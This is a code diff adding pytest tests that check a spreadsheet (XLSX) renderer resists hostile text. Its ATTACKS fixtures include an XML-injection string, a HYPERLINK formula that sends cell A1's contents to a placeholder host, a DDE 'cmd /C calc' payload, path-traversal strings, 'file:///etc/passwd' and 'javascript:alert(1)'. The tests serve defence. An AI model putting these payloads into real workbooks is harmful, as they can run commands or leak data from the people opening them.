@@ -2,18 +2,23 @@
 
 import io
 import posixpath
+import re
 import zipfile
+from collections import Counter
+from collections.abc import Callable
+from contextlib import nullcontext
 from datetime import date
 from decimal import Decimal
 from io import BytesIO
 from typing import Any
 from xml.etree import ElementTree as ET
 
+import pytest
 from openpyxl import load_workbook
 
 from rendering.model import Chart, ChartKind, Column, ColumnType, Format, Highlight, Tone, Total
 
-from .support import Rendered, make
+from .support import Rendered, in_python, make
 
 X = Format.XLSX
 COLUMNS = [
@@ -247,3 +252,146 @@ def test_rendering_a_workbook_imports_no_library_for_workbooks() -> None:
         "assert not {'openpyxl', 'reportlab', 'xlsxwriter'} & set(sys.modules), sorted(sys.modules)"
     )
     subprocess.run([sys.executable, "-c", script], check=True, cwd="lambdas")
+
+
+#: Texts of one length: one that means nothing to anybody, and others that mean something to XML, to formulas,
+#: to escapes of a cell and to paths of a package.
+HARMLESS = "abcdefghijklmnopqrstuvwxyz0123456789abcd"
+ATTACKS = {
+    "xml": """"><c t='e'/></t></si>&lt;]]><!--&#0; -->""",
+    "attribute": """' x='1" r:id="rId1" Target="http://e.x/""".ljust(40, "y"),
+    "formula": """=HYPERLINK("http://e.example/"&A1,"x")+0""",
+    "dde": """@SUM(1+9)*cmd|' /C calc'!A0            y""",
+    "path": "../../xl/worksheets/sheet1.xml\\..\\..\\x.x",
+    "escape": "_x003C_c_x003E__x0000__x005F_x0041_%3C$(",
+}
+
+
+def with_text(text: str) -> Rendered:
+    """A workbook in which ``text`` stands everywhere where a client can put one."""
+    columns = [
+        Column(key="g", label=text + "g"),
+        Column(key="v", label=text + "v", type=ColumnType.DECIMAL, format='0.00" <&\'>"', total=Total.SUM),
+        Column(key="s", label=text, highlights=(Highlight(when="equal", value=text, tone=Tone.BAD),)),
+        Column(key="u", label=text + "u", type=ColumnType.URL),
+        Column(key="d", label=text + "d", type=ColumnType.DATE),
+    ]
+    rows: list[list[object]] = [[text, 1, text, text, text], [text, text, text, text, text]]
+    charts = [Chart(kind=kind, title=text, category="g", values=("v",)) for kind in ChartKind]
+    return make(
+        X,
+        columns,
+        rows,
+        title=text,
+        subtitle=text,
+        group_by=("g",),
+        design={"charts": tuple(charts), "sheet_by": "g"},
+        about=True,
+        parameters=((text, text),),
+    )
+
+
+def as_a_table(text: str) -> Rendered:
+    columns = [
+        Column(key="s", label=text),
+        Column(key="v", label=text, type=ColumnType.INTEGER, total=Total.SUM),
+    ]
+    return make(X, columns, [[text, 1]], title=text, design={"excel_table": True})
+
+
+#: An element and the names of its attributes.
+type Shape = tuple[str, frozenset[str]]
+#: Elements whose number no text decides.
+_COUNTED = (
+    "c",
+    "row",
+    "f",
+    "hyperlink",
+    "col",
+    "sheet",
+    "ser",
+    "pt",
+    "tableColumn",
+    "cfRule",
+    "Relationship",
+)
+
+
+def shapes(made: Rendered) -> list[Shape]:
+    """Those of every part, which has to be well-formed. ``xml:space`` is for blanks at a text's ends."""
+    space = "{http://www.w3.org/XML/1998/namespace}space"
+    return [
+        (node.tag.rpartition("}")[2], frozenset(node.attrib) - {space})
+        for name in made.parts()
+        for node in ET.fromstring(made.part(name)).iter()  # noqa: S314 - our own file
+    ]
+
+
+def counted(found: list[Shape]) -> Counter[str]:
+    return Counter(tag for tag, names in found if tag in _COUNTED and "sharedStrings" not in names)
+
+
+@pytest.mark.parametrize("build", [with_text, as_a_table])
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
+def test_no_text_changes_what_a_workbook_is_made_of(build: Callable[[str], Rendered], attack: str) -> None:
+    # Texts of one length that mean nothing, shared by cells or not, with a quote prefix or without.
+    harmless = [build(text) for text in (HARMLESS, f"={HARMLESS[1:]}", f"_x0041_{HARMLESS[7:]}")]
+    known = {shape for made in harmless for shape in shapes(made)}
+    parts = {name for made in harmless for name in made.parts()}
+    for native in (nullcontext(), in_python()):
+        with native:
+            made = build(attack)
+        found = shapes(made)
+        assert set(found) <= known
+        assert set(made.parts()) <= parts
+        assert {**counted(found), "Relationship": 0} == {**counted(shapes(harmless[0])), "Relationship": 0}
+
+
+@pytest.mark.parametrize("build", [with_text, as_a_table])
+@pytest.mark.parametrize("attack", [ATTACKS["formula"], ATTACKS["dde"], "=1+1", "+1", "-1+2", "@a", "\t=1"])
+def test_the_only_formulas_of_a_workbook_are_its_totals(
+    build: Callable[[str], Rendered], attack: str
+) -> None:
+    made = build(attack)
+    book = load_workbook(BytesIO(made.data))
+    formulas = [
+        cell.value
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas
+    for formula in formulas:
+        # A label in it is one between the brackets of a table's column, with ' before what has a meaning.
+        assert re.fullmatch(
+            r"=SUBTOTAL\(\d+,([A-Z]+\d+:[A-Z]+\d+|Table1\[([^\[\]'#@]|'.)+\])\)", str(formula)
+        )
+    texts = [
+        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+        if isinstance(cell.value, str) and attack.strip() in cell.value and cell.data_type != "f"
+    ]  # fmt: skip
+    assert len(texts) >= 3
+    assert not book.defined_names
+
+
+def test_no_part_points_outside_the_workbook_but_for_links_of_url_columns() -> None:
+    texts = [
+        *ATTACKS.values(),
+        "file:///etc/passwd",
+        "\\\\host\\share",
+        "javascript:alert(1)",
+        "ftp://h/",
+        "data:,x",
+    ]
+    columns = [Column(key="u", label="U", type=ColumnType.URL), Column(key="s", label="S")]
+    rows = [[text, text] for text in [*texts, "https://e.example/"]]
+    made = make(X, columns, rows, title="file:///etc/passwd")
+    external = [
+        node.get("Target")
+        for name in made.parts()
+        if name.endswith(".rels")
+        for node in ET.fromstring(made.part(name))  # noqa: S314 - our own file
+        if node.get("TargetMode") == "External"
+    ]
+    assert external == ["https://e.example/"]
